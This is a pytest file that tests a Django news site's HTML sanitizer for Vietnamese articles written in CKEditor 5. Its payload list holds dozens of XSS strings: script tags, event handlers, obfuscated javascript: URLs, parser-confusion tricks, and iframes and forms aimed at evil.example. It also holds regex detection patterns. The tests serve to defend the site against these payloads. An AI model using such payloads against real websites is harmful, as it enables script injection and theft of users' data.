"""The rich-text sanitizer: real XSS payloads go, what CKEditor 5 writes stays."""

import re

import pytest

from core.richtext import html_to_text, sanitize_html
from news.models import Article
from tests.factories import make_article

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="/media/anh.jpg" onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">bấm</a>',
    '<a href="JaVaScRiPt:alert(1)">bấm</a>',
    '<a href=" javascript:alert(1)">bấm</a>',
    '<a href="jav&#x09;ascript:alert(1)">bấm</a>',
    '<a href="java\nscript:alert(1)">bấm</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">bấm</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">bấm</a>',
    '<a href="vbscript:msgbox(1)">bấm</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">bấm</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="width: expression(alert(1))">chữ</p>',
    '<p style="background-image:url(javascript:alert(1))">chữ</p>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<form action="https://evil.example/"><input name="mat_khau"><button>Gửi</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<p onclick="alert(1)">chữ</p>',
    '<a href="/tin-tuc/" onmouseover="alert(1)">chữ</a>',
    '<h2 onmouseenter="alert(1)">Tiêu đề</h2>',
    '<table onpointerover="alert(1)"><tr><td onclick="alert(1)">ô</td></tr></table>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    '<img """><script>alert(1)</script>">',
    '<img src="//evil.example/x.png">',
    '<img src="https://evil.example/x.png">',
    '<img src="/media/../settings.py">',
    '<img src="/media/%2e%2e/%2E%2E/secret">',
    '<img src="/media/..\\..\\secret">',
    '<img src="/mediax/anh.jpg">',
    '<img src="/media/anh.jpg" srcset="https://evil.example/x.png 2x">',
    '<img src="/media/anh.jpg" srcset="/media/anh.jpg 1x, data:image/png;base64,AAAA 2x">',
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><script>alert(1)</script> -->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><script>alert(1)</script></textarea>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    '<figure class="image" onclick="alert(1)"><img src="/media/a.jpg"></figure>',
    '<input autofocus onfocus="alert(1)">',
    '<a href="https://example.vn/" target="_blank">mở tab mới</a>',
]

# What must never come out of the sanitizer, whatever goes in.
FORBIDDEN = [
    re.compile(r"<\s*script", re.I),
    re.compile(r"<\s*/\s*script", re.I),
    re.compile(r"\son[a-z]+\s*=", re.I),
    re.compile(r"javascript:", re.I),
    re.compile(r"vbscript:", re.I),
    re.compile(r"data:", re.I),
    re.compile(r"<\s*(iframe|object|embed|style|math|svg|form|input|button|meta|base|link|textarea|noscript|video|details)\b", re.I),
    re.compile(r"\sstyle\s*=", re.I),
    re.compile(r"expression\(", re.I),
    re.compile(r"evil\.example"),
    re.compile(r"\ssrcdoc\s*=", re.I),
    re.compile(r"\starget\s*=", re.I),
    re.compile(r"\.\.|%2e", re.I),
]  # fmt: skip


def test_there_are_enough_payloads_to_mean_something():
    assert len(PAYLOADS) >= 25


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xss_payload_comes_out_harmless(payload):
    cleaned = sanitize_html(payload)
    for pattern in FORBIDDEN:
        assert not pattern.search(cleaned), (pattern.pattern, cleaned)
    # Sanitizing is idempotent: what comes out survives a second pass unchanged.
    assert sanitize_html(cleaned) == cleaned


def test_plain_text_keeps_no_script_or_style_content():
    html = "<p>Đoàn viên</p><script>var bi_mat = 1;</script><style>p{color:red}</style><p>vui</p>"
    assert html_to_text(html) == "Đoàn viên vui"


def test_event_handler_is_dropped_but_the_allowed_tag_stays():
    assert sanitize_html('<p onclick="alert(1)">Đoàn viên</p>') == "<p>Đoàn viên</p>"


def test_javascript_link_keeps_its_text_but_loses_its_href():
    cleaned = sanitize_html('<a href="javascript:alert(1)">Xem thêm</a>')
    assert "Xem thêm" in cleaned
    assert "href" not in cleaned


def test_image_from_another_host_disappears_entirely():
    assert sanitize_html('<p><img src="https://evil.example/x.png" alt="x"></p>') == "<p></p>"


def test_unknown_classes_are_dropped_and_known_ones_kept():
    cleaned = sanitize_html(
        '<figure class="image hacker image-style-side"><img src="/media/a.jpg"></figure>'
    )
    assert 'class="image image-style-side"' in cleaned


# What CKEditor 5 writes --------------------------------------------------------------------------

CKEDITOR_IMAGE = (
    '<figure class="image image-style-side"><img src="/media/editor/2021/04/hoi-nghi-1a2b3c4d.jpg"'
    ' alt="Đại biểu dự hội nghị" width="800" height="533">'
    "<figcaption>Quang cảnh hội nghị ký kết chương trình phối hợp</figcaption></figure>"
)
CKEDITOR_TABLE = (
    '<figure class="table"><table><thead><tr><th>Đơn vị</th><th colspan="2">Số đoàn viên</th>'
    "</tr></thead><tbody><tr><td>Công đoàn ngành Giáo dục</td><td>1.250</td><td>98%</td></tr>"
    "</tbody></table></figure>"
)
CKEDITOR_LISTS = (
    "<ul><li>Chăm lo Tết cho đoàn viên</li><li>Mái ấm Công đoàn</li></ul>"
    '<ol start="3"><li>Tuyên truyền pháp luật</li><li>Đối thoại tại nơi làm việc</li></ol>'
)
CKEDITOR_HEADINGS = "<h2>Kết quả nổi bật</h2><h3>Về công tác tuyên truyền</h3>"
CKEDITOR_QUOTE = "<blockquote><p>Công đoàn là chỗ dựa tin cậy của người lao động.</p></blockquote>"
CKEDITOR_TEXT = (
    "<p>Ngày <strong>08/04/2021</strong>, Liên đoàn Lao động tỉnh <i>đã tổ chức</i> hội nghị."
    "<br>Dòng thứ hai, có chữ <s>gạch</s> và <sup>2</sup>.</p>"
)


@pytest.mark.parametrize(
    "html",
    [
        CKEDITOR_IMAGE,
        CKEDITOR_TABLE,
        CKEDITOR_LISTS,
        CKEDITOR_HEADINGS,
        CKEDITOR_QUOTE,
        CKEDITOR_TEXT,
    ],
    ids=["figure", "table", "lists", "headings", "blockquote", "text"],
)
def test_ckeditor_output_survives_unchanged(html):
    assert sanitize_html(html) == html


def test_links_keep_their_url_and_gain_a_safe_rel():
    html = '<p>Xem <a href="https://laodong.vn/cong-doan/bai-viet.html">bài gốc</a>.</p>'
    assert sanitize_html(html) == (
        '<p>Xem <a href="https://laodong.vn/cong-doan/bai-viet.html"'
        ' rel="noopener noreferrer">bài gốc</a>.</p>'
    )


def test_mail_and_phone_links_are_kept():
    html = '<p><a href="mailto:ldld@example.vn">thư</a> <a href="tel:02633822222">gọi</a></p>'
    cleaned = sanitize_html(html)
    assert 'href="mailto:ldld@example.vn"' in cleaned
    assert 'href="tel:02633822222"' in cleaned


def test_ckeditor_inline_style_is_dropped_but_the_image_stays():
    html = '<figure class="image image_resized" style="width:50%;"><img style="aspect-ratio:4/3;" src="/media/a.jpg"></figure>'
    assert (
        sanitize_html(html)
        == '<figure class="image image_resized"><img src="/media/a.jpg"></figure>'
    )


def test_plain_text_of_a_body_separates_blocks_and_unescapes_entities():
    text = html_to_text(
        "<h2>Tiêu đề</h2><p>Đoàn viên &amp; người lao động</p><ul><li>một</li><li>hai</li></ul>"
    )
    assert text == "Tiêu đề Đoàn viên & người lao động một hai"


# Through the model --------------------------------------------------------------------------------


@pytest.mark.django_db
def test_article_body_is_stored_sanitized_whoever_saves_it():
    body = (
        '<h2>Tin vui</h2><p onclick="alert(1)">Nội dung <a href="javascript:alert(1)">xem</a></p>'
        '<script>alert("xss")</script><img src=x onerror=alert(1)>' + CKEDITOR_IMAGE
    )
    article = make_article(body=body)
    stored = Article.objects.get(pk=article.pk).body
    assert stored == (
        '<h2>Tin vui</h2><p>Nội dung <a rel="noopener noreferrer">xem</a></p>' + CKEDITOR_IMAGE
    )


@pytest.mark.django_db
def test_body_updated_later_is_sanitized_again():
    article = make_article()
    article.body = '<p>Sửa lại</p><iframe src="https://evil.example/"></iframe>'
    article.save(update_fields=["body"])
    assert Article.objects.get(pk=article.pk).body == "<p>Sửa lại</p>"


@pytest.mark.django_db
def test_script_text_does_not_reach_the_search_text():
    article = make_article(body="<p>Công đoàn</p><script>var matkhau = 'bimat';</script>")
    assert "bimat" not in Article.objects.get(pk=article.pk).search_text
    assert "cong doan" in Article.objects.get(pk=article.pk).search_text
